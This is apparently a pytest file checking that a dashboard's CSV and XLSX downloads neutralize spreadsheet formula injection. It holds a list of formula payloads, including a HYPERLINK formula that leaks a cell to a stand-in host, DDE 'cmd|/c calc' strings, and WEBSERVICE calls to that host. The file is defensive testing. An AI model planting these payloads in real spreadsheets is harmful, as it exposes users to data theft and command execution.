"""No download holds a cell that a spreadsheet would evaluate (OWASP CSV injection).

Given uploads whose bad cells hold formula payloads, every file the app offers is opened
the way a user's program would read it (the csv module, openpyxl) and searched for a live
formula: a CSV field starting with ``= + - @``, tab, CR or their full-width forms, or an
XLSX formula cell. The originals must stay visible.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from dashboard.report import report_csv
from domain.inert import FORMULA_STARTS, formula_like, neutralize
from downloads.tables import FRENCH_EXCEL, STANDARD, About, export_frame, to_csv, to_xlsx
from downloads.workbooks import annotated_copy, template_bytes
from tests.builders import rows, xlsx_bytes
from tests.conftest import CASES_DIR
from validation.pipeline import load_bytes

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = CASES_DIR / "hostile" / "files"

PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?leak="&B2,"Click to fix")',
    "=cmd|'/c calc'!A1",
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bML",
    "\uff0d1",
    "\uff20SUM(A1)",
]


def _csv_live_fields(data: bytes, delimiter: str = ",") -> list[str]:
    text = data.decode("utf-8-sig")
    return [field for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for field in record
            if formula_like(field)]  # fmt: skip


def _xlsx_live_cells(data: bytes) -> list[str]:
    """Formula cells, and formula-like text cells without Excel's quote prefix, of every sheet."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    live = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (formula_like(cell.value) and not cell.quotePrefix):
                    live.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return live


def _text_workbook(data: list[list]) -> openpyxl.Workbook:
    """The builder's workbook of ``data`` with every text typed as text (openpyxl makes ``=...`` a formula)."""
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(data)))
    for row in wb["Allocations"].iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    return wb


def _saved(wb: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _upload_with_payloads() -> bytes:
    """A workbook whose rejected cells hold formula payloads, with a real formula cell and a payload header."""
    wb = _text_workbook(rows(A2=PAYLOADS[0], H3=PAYLOADS[1], I5=PAYLOADS[4]))
    ws = wb["Allocations"]
    for i, payload in enumerate(PAYLOADS[2:], start=6):
        ws[f"C{i}"] = payload  # window: every one is an invalid window, echoed in the report
        ws[f"C{i}"].data_type = "s"
    ws["O1"] = "=1+1"  # a header that is a live formula in the upload
    ws["H10"] = "=SUM(H2:H9)"  # a formula cell (no cached result)
    return _saved(wb)


UPLOADS = {
    "built.xlsx": _upload_with_payloads(),
    "a20_injection_in_rejected_cells.xlsx": (HOSTILE / "a20_injection_in_rejected_cells.xlsx").read_bytes(),
}


@pytest.mark.parametrize("name", sorted(UPLOADS))
@pytest.mark.parametrize("lang", ["en", "fr"])
def test_the_problem_report_csv_holds_no_live_formula_and_shows_the_values(name, lang):
    result = load_bytes(UPLOADS[name], name)
    assert result.report.errors
    data = report_csv(result.report, lang)
    assert _csv_live_fields(data) == []
    records = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    values = {r["value"] for r in records}
    if name == "built.xlsx":
        for payload in [PAYLOADS[0], PAYLOADS[1], PAYLOADS[4], *PAYLOADS[5:]]:
            assert neutralize(payload) in values, payload
    else:
        assert '\'=HYPERLINK("http://evil.invalid/?leak="&B2,"Click to fix")' in values
        assert "'=cmd|'/c calc'!A1" in values


@pytest.mark.parametrize("name", sorted(UPLOADS))
def test_the_annotated_copy_and_its_report_sheet_hold_no_live_formula(name):
    result = load_bytes(UPLOADS[name], name)
    report = result.report
    data = annotated_copy(UPLOADS[name], list(report), report.to_frame("en"), "en")
    assert data is not None
    assert _xlsx_live_cells(data) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    # the originals stay visible, as text
    assert wb["Allocations"]["H3"].value == "=cmd|'/c calc'!A1"
    assert wb["Allocations"]["H3"].data_type == "s"
    values = [row[5] for row in wb["Rapport"].iter_rows(min_row=2, values_only=True)]
    assert "=cmd|'/c calc'!A1" in values
    if name == "built.xlsx":
        assert wb["Allocations"]["H10"].value == "=SUM(H2:H9)"  # the formula as text, not evaluated
        assert wb["Allocations"]["H10"].quotePrefix


def test_the_annotated_copy_leaves_out_names_conditional_formats_and_validations():
    wb = openpyxl.load_workbook(io.BytesIO(_upload_with_payloads()))
    ws = wb["Allocations"]
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    wb.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://evil.invalid")')
    ws.conditional_formatting.add("A2:A10", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://evil.invalid"))']))
    validation = DataValidation(type="custom", formula1='WEBSERVICE("http://evil.invalid")')
    validation.add("B2:B10")
    ws.add_data_validation(validation)
    buffer = io.BytesIO()
    wb.save(buffer)
    data = buffer.getvalue()
    result = load_bytes(data, "names.xlsx")
    copy = annotated_copy(data, list(result.report), result.report.to_frame("en"))
    out = openpyxl.load_workbook(io.BytesIO(copy))
    assert not list(out.defined_names)
    assert not list(out["Allocations"].conditional_formatting)
    assert not out["Allocations"].data_validations.dataValidation


def _dataset_with_payloads():
    """A valid upload whose free-text cells hold formula payloads (titles, partners, sources, themes)."""
    changes = {"B2": PAYLOADS[0], "J3": PAYLOADS[1], "K4": PAYLOADS[3], "G5": PAYLOADS[4], "B6": PAYLOADS[5],
               "J7": PAYLOADS[7], "K8": PAYLOADS[9], "G9": PAYLOADS[10], "B10": PAYLOADS[2]}  # fmt: skip
    result = load_bytes(_saved(_text_workbook(rows(**changes))), "ok.xlsx")
    assert result.dataset is not None, result.report.text()
    return result.dataset.allocations


@pytest.mark.parametrize(("lang", "profile"), [("en", STANDARD), ("fr", FRENCH_EXCEL)])
def test_the_csv_exports_hold_no_live_formula(lang, profile):
    frame = export_frame(_dataset_with_payloads(), ["reference", "title", "theme", "implementing_partner",
                                                    "source", "amount_eur"], lang)  # fmt: skip
    data = to_csv(frame, profile)
    assert _csv_live_fields(data, profile.delimiter) == []
    fields = {f for record in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=profile.delimiter)
              for f in record}  # fmt: skip
    assert {neutralize(PAYLOADS[0]), "'\uff1d1+1", "'=1+1"} <= fields  # the title's tab is trimmed on reading


def test_the_xlsx_export_holds_no_live_formula():
    frame = export_frame(_dataset_with_payloads(), ["reference", "title", "theme", "implementing_partner",
                                                    "source", "amount_eur"], "en")  # fmt: skip
    about = About(dataset="=cmd|'/c calc'!A1", version="v2", filters=("@SUM(1)",), sources=("-x",),
                  citation="+1", exported_at=datetime(2026, 12, 1, tzinfo=UTC))  # fmt: skip
    data = to_xlsx(frame, about)
    assert _xlsx_live_cells(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data))["Allocations"]
    assert ws["B2"].value == PAYLOADS[0]  # the original, as text


def test_the_template_holds_no_live_formula():
    assert _xlsx_live_cells(template_bytes()) == []


def test_every_download_the_app_offers_is_covered_here():
    """A new download button must be added to this file: the producers tested above are all there is."""
    calls = {}
    for path in [*(ROOT / "pages").glob("*.py"), *(ROOT / "dashboard").glob("*.py"), ROOT / "app.py"]:
        count = len(re.findall(r"\bdownload_button\(", path.read_text(encoding="utf-8")))
        if count:
            calls[path.relative_to(ROOT).as_posix()] = count
    # explorer: one call in a loop over CSV, French CSV, XLSX, JSON; report: CSV + annotated copy; upload: template;
    # results: the indicator table as CSV (tests/test_results.py::test_the_results_download_is_exact_and_inert)
    assert calls == {"pages/explorer.py": 1, "dashboard/report.py": 2, "pages/upload.py": 1, "pages/results.py": 1}


def test_full_width_forms_count_as_formula_starts():
    assert set("=+-@\t\r\uff1d\uff0b\uff0d\uff20") == set(FORMULA_STARTS)
    assert neutralize("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert neutralize("Résilience") == "Résilience"


def test_a_formula_after_leading_spaces_is_neutralized_too():
    assert neutralize(" =1+1") == "' =1+1"
    assert neutralize("\n@SUM(A1)") == "'\n@SUM(A1)"
    assert neutralize("  Résilience - Nord") == "  Résilience - Nord"


def test_the_annotated_copy_keeps_drop_downs_of_plain_values_only():
    from openpyxl.worksheet.datavalidation import DataValidation

    wb = openpyxl.load_workbook(io.BytesIO(_upload_with_payloads()))
    ws = wb["Allocations"]
    lists = wb.create_sheet("Listes")
    lists.append(["SAH"])
    for source, cells in (('"SAH,HOA,NOA,REG"', "C2:C10"), ("=Listes!$A$1:$A$4", "D2:D10"),
                          ('=INDIRECT("Listes!A1")', "E2:E10")):  # fmt: skip
        validation = DataValidation(type="list", formula1=source)
        validation.add(cells)
        ws.add_data_validation(validation)
    data = _saved(wb)
    result = load_bytes(data, "dv.xlsx")
    copy = openpyxl.load_workbook(io.BytesIO(annotated_copy(data, list(result.report), result.report.to_frame("en"))))
    kept = sorted(v.formula1 for v in copy["Allocations"].data_validations.dataValidation)
    assert kept == ['"SAH,HOA,NOA,REG"', "=Listes!$A$1:$A$4"]
